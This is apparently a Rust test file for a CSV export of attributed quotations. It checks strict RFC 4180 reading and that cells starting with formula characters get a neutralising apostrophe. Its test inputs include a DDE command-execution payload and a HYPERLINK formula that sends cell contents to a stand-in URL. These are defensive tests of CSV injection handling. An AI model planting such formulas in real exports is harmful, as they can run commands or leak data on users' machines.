//! Tests of the CSV export: a strict reader can read it, and no cell is a formula.

use crate::fixtures::{TEXT, all_of, annotations, span};
use whosaid::export::{Unit, csv};

/// Reads CSV strictly by RFC 4180: any byte that the grammar does not allow fails the test.
pub fn read_csv(csv: &str) -> Vec<Vec<String>> {
    let mut rest = csv.strip_prefix('\u{feff}').expect("it begins with a byte order mark");
    let (mut rows, mut row) = (Vec::new(), Vec::new());
    while !rest.is_empty() {
        let mut cell = String::new();
        if let Some(mut quoted) = rest.strip_prefix('"') {
            loop {
                let end = quoted.find('"').expect("the quoted cell ends");
                cell.push_str(&quoted[..end]);
                quoted = &quoted[end + 1..];
                let Some(more) = quoted.strip_prefix('"') else { break };
                cell.push('"');
                quoted = more;
            }
            rest = quoted;
        } else {
            let end = rest.find([',', '\r', '\n', '"']).expect("the line ends");
            cell.push_str(&rest[..end]);
            rest = &rest[end..];
        }
        row.push(cell);
        if let Some(more) = rest.strip_prefix(',') {
            rest = more;
        } else {
            rest = rest.strip_prefix("\r\n").unwrap_or_else(|| panic!("a comma or line end, not {rest:?}"));
            rows.push(std::mem::take(&mut row));
        }
    }
    rows
}

#[test]
fn csv_has_a_row_for_each_quotation() {
    let rows = read_csv(&csv::quotations(TEXT, &annotations(), Unit::Chars));
    let offset = |needle, nth, end: bool| {
        let span = span(TEXT, needle, nth);
        TEXT[..if end { span.end } else { span.start }].chars().count().to_string()
    };
    assert_eq!(rows[0], csv::COLUMNS);
    assert_eq!(
        rows[1],
        [
            "1",
            "Mina Okafor",
            "direct",
            "speech",
            "false",
            "“We never 👍 the plan,” … “and Ben Tarr hopes we ‘drop it’.”",
            "said",
            "she",
            "0.875",
            "cue-verb",
            "pronoun",
            &offset("“We", 0, false),
            &offset(".”", 0, true),
        ]
    );
    assert_eq!(rows[2][1..5], ["Ben Tarr", "mixed", "thought", "true"]);
    assert_eq!(rows[3][1..8], ["", "indirect", "speech", "false", "it", "", ""]);
    assert_eq!(rows.len(), 4);
}

#[test]
fn csv_neutralises_formulas_and_keeps_everything_else() {
    for (text, expected) in [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("＝1", "'＝1"),
        ("\0=1+1", "'\0=1+1"),
        ("\u{feff}\u{200b}=1+1", "'\u{feff}\u{200b}=1+1"),
        ("\u{200b}plain", "\u{200b}plain"),
        ("=HYPERLINK(\"http://example.org?\"&A1,\"x\")", "'=HYPERLINK(\"http://example.org?\"&A1,\"x\")"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("a, \"b\"; c", "a, \"b\"; c"),
        ("\"=1\"", "\"=1\""),
        ("'tis", "'tis"),
        ("two\r\nlines\there", "two lines here"),
    ] {
        let rows = read_csv(&csv::quotations(text, &all_of(text, text), Unit::Chars));
        for (column, cell) in csv::COLUMNS.iter().zip(&rows[1]) {
            if ["quotation", "cue", "source"].contains(column) {
                assert_eq!(cell, expected, "{column} of {text:?}");
            }
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']), "{column} of {text:?}: {cell:?}");
        }
    }
    for name in ["\t=1", "\r=1", "\n=1"] {
        let rows = read_csv(&csv::quotations("x", &all_of("x", name), Unit::Chars));
        assert_eq!(rows[1][1], format!("'{name}"));
    }
}
